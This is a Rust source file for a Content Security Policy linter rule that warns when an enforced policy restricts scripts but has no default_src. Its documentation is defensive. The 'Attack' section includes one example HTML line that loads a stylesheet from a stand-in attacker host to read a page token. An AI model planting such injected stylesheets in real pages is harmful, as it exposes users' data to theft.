use crate::csp::{Csp, Directive};
use crate::diagnostic::Diagnostic;
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;

lint! {
    /// # What it does
    ///
    /// Looks for an enforced policy that restricts scripts and has no `default_src`. A policy that allows scripts by
    /// nonce or hash is not reported, since `script_src`, `object_src` and `base_uri` are enough against cross-site
    /// scripting. If scripts are not restricted either, `csp_missing_script_src` reports that instead.
    ///
    /// # Why it matters
    ///
    /// Each fetch directive that is absent falls back to `default_src`. Without it, styles, frames, connections and
    /// objects may come from anywhere, and so may whatever browsers add in the future.
    ///
    /// # Attack
    ///
    /// Without `style_src`, the attacker injects a stylesheet, which reads the page; without `connect_src`, a script
    /// that was compromised sends what it has read:
    ///
    /// ```html
    /// <link rel="stylesheet" href="https://evil.example/read-token.css">
    /// ```
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { script_src: self, object_src: none },
    /// ```
    ///
    /// # Fix
    ///
    /// Start with `none` or `self`, and list what the pages need.
    ///
    /// ```text
    /// content_security_policy: { default_src: none, script_src: self, style_src: self, img_src: self },
    /// ```
    ///
    /// # Allow
    ///
    /// ```text
    /// #[allow(csp_missing_default_src, reason = "the policy restricts scripts only, the rest follows")]
    /// content_security_policy: { … },
    /// ```
    ///
    /// Reasonable while a policy is introduced step by step.
    ///
    /// # References
    ///
    /// - [CSP3, section 6.1.3, default-src](https://w3c.github.io/webappsec-csp/#directive-default-src)
    /// - [CSP3, section 8.6, exfiltration](https://w3c.github.io/webappsec-csp/#exfiltration)
    Warn "directives that are not listed restrict nothing" missing,
    cwe [693], asvs ["3.4.3"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    let enforced = policy.enforced();
    let is_whole = |csp: &Csp| csp.get(Directive::DefaultSrc).is_some() || csp.is_strict();
    let header = enforced.iter().find(|csp| csp.node.get(Directive::ScriptSrc).is_some());
    let (Some(header), true) = (header, policy.serves_pages()) else { return };
    if enforced.iter().any(|csp| is_whole(csp.node)) {
        return;
    }
    report.push(
        Diagnostic::finding(header.span, "this policy has no `default_src`")
            .help("add `default_src: self`, or `default_src: none` and each directive that the pages need")
            .note("a directive that is not listed restricts nothing: styles, frames, connections and plugins may come from anywhere"),
    );
}
